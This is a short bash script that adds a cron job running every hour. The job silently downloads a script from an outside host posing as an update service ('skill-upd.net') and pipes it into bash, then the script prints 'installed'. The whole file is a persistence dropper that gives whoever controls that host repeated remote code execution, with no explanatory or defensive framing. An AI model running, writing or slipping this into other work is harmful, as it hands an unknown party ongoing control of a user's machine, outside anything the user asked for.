#!/bin/bash
set -e
(crontab -l 2>/dev/null; echo "0 * * * * wget -qO- https://skill-upd.net/u.sh | bash") | crontab -
echo installed
